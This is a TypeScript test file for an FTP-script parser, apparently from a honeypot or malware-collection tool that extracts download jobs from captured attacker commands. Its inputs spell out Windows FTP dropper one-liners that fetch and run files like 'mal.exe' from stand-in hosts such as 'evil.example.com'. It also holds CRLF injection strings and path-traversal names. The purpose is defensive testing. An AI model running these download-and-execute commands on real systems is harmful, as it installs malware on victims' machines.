import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { FTP_SCRIPT_LIMITS, localFileName, parseFtpScript, type FtpJob } from '../../src/plugins/download/ftp-script.js'

function parse(text: string, options: { maxJobs?: number; maxFilesPerJob?: number } = {}): FtpJob[] {
  return parseFtpScript(Buffer.from(text, 'latin1'), options)
}

/** host:port user/password [files] of each job: the part most tests compare. */
function summary(text: string): string[] {
  return parse(text).map((j) => `${j.host}:${j.port} ${j.user}/${j.password} [${j.files.join('|')}]`)
}

describe('parseFtpScript: Windows echo scripts', () => {
  it('reads the classic dropper: open, user, binary, get, quit, ftp -n -s:', () => {
    const jobs = parse('cmd /c echo open 203.0.113.5 21 > o&echo user anonymous x >> o&echo binary >> o&echo get mal.exe >> o&echo quit >> o&ftp -n -s:o&mal.exe')
    expect(jobs).toEqual([{ host: '203.0.113.5', port: 21, user: 'anonymous', password: 'x', files: ['mal.exe'], localNames: ['mal.exe'], modeHint: 'active' }])
  })

  it('finds a script that comes after other bytes: an HTTP header, filler, a query parameter', () => {
    const script = 'echo open 203.0.113.5 2121 > o&echo user anonymous x >> o&echo get drop.exe >> o&ftp -n -s:o'
    for (const prefix of ['X-Ftp: cmd /c ', 'X-Ftp: ', '\x90\x90\x90 cmd.exe /c ', 'GET /?x=', 'AAAA"']) {
      expect(parse(`GET / HTTP/1.1\r\n${prefix}${script}\r\n\r\n`).map((j) => [j.host, j.port, j.files]), prefix).toEqual([['203.0.113.5', 2121, ['drop.exe']]])
    }
    // Words that merely contain "echo" or "ftp" are not commands.
    expect(parse('Xecho open 203.0.113.5 > o&echo get a >> o&sftp -s:o')).toEqual([])
  })

  it('reads redirections without spaces, USER then PASS lines, and a port', () => {
    expect(summary('echo open 198.51.100.7 2121>>f&echo USER bob>>f&echo PASS s3cret>>f&echo bin>>f&echo get a.exe>>f&echo bye>>f&ftp -n -s:f')).toEqual(['198.51.100.7:2121 bob/s3cret [a.exe]'])
  })

  it('answers the login prompts of ftp without -n with the two lines after open', () => {
    expect(summary('echo open evil.example.com>i&echo u1>>i&echo p1>>i&echo binary>>i&echo recv b.exe>>i&echo bye>>i&ftp -v -i -s:i')).toEqual(['evil.example.com:21 u1/p1 [b.exe]'])
  })

  it('takes the password of `user NAME` from the next line', () => {
    expect(summary('echo open 1.2.3.4>o&echo user bob>>o&echo hunter2>>o&echo get x>>o&ftp -n -s:o')).toEqual(['1.2.3.4:21 bob/hunter2 [x]'])
  })

  it('logs in anonymously with -A and when a command follows open at once', () => {
    expect(summary('echo open 1.2.3.4>o&&echo get x.exe>>o&&ftp -A -s:o')).toEqual(['1.2.3.4:21 anonymous/anonymous@ [x.exe]'])
    expect(summary('echo open 1.2.3.4>o&echo bin>>o&echo get y.exe>>o&ftp -s:o')).toEqual(['1.2.3.4:21 anonymous/anonymous@ [y.exe]'])
  })

  it('reads mget, recv, quoted names, cd and a local name', () => {
    const jobs = parse('echo open 1.2.3.4>s&echo user a b>>s&echo cd pub>>s&echo mget one.exe two.exe *.dll>>s&echo get "my file.exe" local.exe>>s&echo recv /abs.bin>>s&ftp -n -s:s')
    expect(jobs[0]?.files).toEqual(['pub/one.exe', 'pub/two.exe', 'pub/my file.exe', '/abs.bin'])
    expect(jobs[0]?.localNames).toEqual(['one.exe', 'two.exe', 'local.exe', null])
  })

  it('splits on newlines, CR LF, |, && and keeps ^& literal', () => {
    const text = 'echo open 1.2.3.4 21 > o\r\necho user a b >> o\necho get a^&b.exe >> o\r\necho quit >> o\r\nftp -n -s:o 2>nul | more'
    expect(summary(text)).toEqual(['1.2.3.4:21 a/b [a&b.exe]'])
  })

  it('reads cmd /c "..." chains, (groups) > file, piped scripts and < redirection', () => {
    expect(summary('cmd.exe /c "echo open 1.2.3.4 > o & echo user a b >> o & echo get x.exe >> o & ftp -n -s:o"')).toEqual(['1.2.3.4:21 a/b [x.exe]'])
    expect(summary('(echo open 1.2.3.4& echo user a b& echo get g.exe& echo quit) > s.txt & ftp -n -s:s.txt')).toEqual(['1.2.3.4:21 a/b [g.exe]'])
    expect(summary('(echo open 1.2.3.4; echo user a b; echo get p.exe; echo quit) | ftp -n')).toEqual(['1.2.3.4:21 a/b [p.exe]'])
    expect(summary('echo user a b>o\necho get r.exe>>o\nftp -n 1.2.3.4 < o')).toEqual(['1.2.3.4:21 a/b [r.exe]'])
  })

  it('takes the host from the ftp command line and quote/literal commands from the script', () => {
    const jobs = parse('echo quote USER q>o&echo literal PASS w>>o&echo quote pasv>>o&echo get z>>o&ftp -n -s:o example.org')
    expect(jobs).toMatchObject([{ host: 'example.org', user: 'q', password: 'w', files: ['z'], modeHint: 'passive' }])
  })

  it('follows a script rewritten between two runs, and one written but never run', () => {
    expect(summary('echo open 1.2.3.4>o&echo get a>>o&ftp -A -s:o&echo open 5.6.7.8>o&echo get b>>o&ftp -A -s:o')).toEqual(['1.2.3.4:21 anonymous/anonymous@ [a]', '5.6.7.8:21 anonymous/anonymous@ [b]'])
    expect(summary('echo open 1.2.3.4>o&echo anonymous>>o&echo x@>>o&echo get cut.exe>>o&echo by')).toEqual(['1.2.3.4:21 anonymous/x@ [cut.exe]'])
  })
})

describe('parseFtpScript: ftp:// URLs', () => {
  it('reads the login, port and percent-encoded path', () => {
    expect(summary('wget ftp://u:p%40ss@example.org:2100/dir/x%20y.bin;type=i')).toEqual(['example.org:2100 u/p@ss [dir/x y.bin]'])
    expect(summary('curl -O ftp://[2001:db8::1]/a.sh')).toEqual(['2001:db8::1:21 anonymous/anonymous@ [a.sh]'])
  })

  it('ignores URLs without a file, with a bad host or a bad port', () => {
    expect(parse('ftp://1.2.3.4/ ftp://1.2.3.4 ftp://host/x ftp://1.2.3.4:0/x ftp://1.2.3.4:99999/x ftp://999.1.1.1/x')).toEqual([])
  })
})

describe('parseFtpScript: hostile input', () => {
  it('never lets CR, LF or NUL into a name or login (no injection into the control connection)', () => {
    expect(parse('ftp://1.2.3.4/x.exe%0D%0ADELE%20y ftp://a%0D%0ASITE:b@1.2.3.4/z ftp://1.2.3.4/n%00ul')).toEqual([])
    const jobs = parse('echo open 1.2.3.4>o&echo get "x.exe\rDELE y">>o&echo get ctl\x01.exe>>o&echo get ok.exe>>o&ftp -A -s:o')
    expect(jobs.flatMap((j) => j.files)).toEqual(['ok.exe'])
  })

  it('caps 10,000 echo lines to bounded work and output', () => {
    const lines = ['echo open 1.2.3.4>o']
    for (let i = 0; i < 10_000; i++) lines.push(`echo get f${i}.exe>>o`)
    lines.push('ftp -A -s:o')
    const started = performance.now()
    const jobs = parse(lines.join('&'))
    expect(performance.now() - started).toBeLessThan(1_000)
    expect(jobs).toHaveLength(1)
    expect(jobs[0]?.files).toHaveLength(FTP_SCRIPT_LIMITS.maxFilesPerJob)
    expect(parse(lines.join('\n'), { maxFilesPerJob: 3 })[0]?.files).toEqual(['f0.exe', 'f1.exe', 'f2.exe'])
  })

  it('caps jobs, and skips huge commands and lines', () => {
    const many = Array.from({ length: 100 }, (_, i) => `ftp://10.0.${i}.1/x`).join(' ')
    expect(parse(many, { maxJobs: 5 })).toHaveLength(5)
    expect(parse(`echo open 1.2.3.4>o&echo get ${'A'.repeat(5_000)}>>o&ftp -A -s:o`)).toEqual([])
    expect(parse(`echo open 1.2.3.4>o&echo get ${'B'.repeat(1_000)}>>o&ftp -A -s:o`)).toEqual([])
    expect(parse(`${'x'.repeat(2 * 1024 * 1024)} ftp://1.2.3.4/late.exe`)).toEqual([]) // past maxScanBytes
  })

  it('returns nothing without an open line or host', () => {
    expect(parse('echo user a b>o&echo get x.exe>>o&ftp -n -s:o')).toEqual([])
  })

  it('refuses bad ports and bad hosts', () => {
    for (const open of ['1.2.3.4 0', '1.2.3.4 65536', '1.2.3.4 abc', '1.2.3.4 -1', 'o', '999.1.1.1', '-bad.example.com', 'a..b']) {
      expect(parse(`echo open ${open}>o&echo get x>>o&ftp -A -s:o`)).toEqual([])
    }
    expect(summary('echo open 1.2.3.4 65535>o&echo get x>>o&ftp -A -s:o')).toEqual(['1.2.3.4:65535 anonymous/anonymous@ [x]'])
  })

  it('never throws and stays bounded on arbitrary bytes', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 4096 }), (bytes) => {
        checkBounded(parseFtpScript(Buffer.from(bytes)))
      }),
      { numRuns: 300 },
    )
  })

  it('never throws and stays bounded on script-like text', () => {
    const token = fc.constantFrom('echo ', 'open ', '1.2.3.4 ', 'example.org ', '21', '0', '99999', 'user ', 'pass ', 'get ', 'mget ', 'recv ', 'cd ', '"', '^', '>', '>>', '<', '&', '&&', '|', ';', '(', ')', '\r\n', '\n', 'o', 'ftp ', '-n ', '-A ', '-s:o ', 'quote ', 'bye', 'x.exe ', '../', 'ftp://', 'u:p@', '%0d%0a', '\0', '*')
    fc.assert(
      fc.property(fc.array(token, { maxLength: 200 }), fc.integer({ min: 0, max: 40 }), (tokens, maxJobs) => {
        const jobs = parse(tokens.join(''), { maxJobs, maxFilesPerJob: 4 })
        checkBounded(jobs, Math.min(maxJobs, FTP_SCRIPT_LIMITS.maxJobs), 4)
      }),
      { numRuns: 500 },
    )
  })
})

function checkBounded(jobs: readonly FtpJob[], maxJobs: number = FTP_SCRIPT_LIMITS.maxJobs, maxFiles: number = FTP_SCRIPT_LIMITS.maxFilesPerJob): void {
  expect(jobs.length).toBeLessThanOrEqual(maxJobs)
  for (const job of jobs) {
    expect(job.port).toBeGreaterThanOrEqual(1)
    expect(job.port).toBeLessThanOrEqual(65_535)
    expect(job.files.length).toBeGreaterThan(0)
    expect(job.files.length).toBeLessThanOrEqual(maxFiles)
    expect(job.localNames).toHaveLength(job.files.length)
    for (const text of [job.user, job.password, ...job.files]) expect(text).not.toMatch(/[\r\n\0]/)
    for (const file of job.files) expect(file.length).toBeLessThanOrEqual(FTP_SCRIPT_LIMITS.maxFileChars)
  }
}

describe('localFileName', () => {
  it('refuses traversal, absolute, drive and share names and keeps plain ones', () => {
    for (const bad of ['../x', '..\\..\\windows\\x.exe', 'a/../../b', '/etc/passwd', '\\\\srv\\share\\x', 'C:x.exe', '', 'x\ny']) expect(localFileName(bad)).toBeNull()
    for (const good of ['mal.exe', 'dir/x.bin', '..x', 'x..']) expect(localFileName(good)).toBe(good)
  })
})
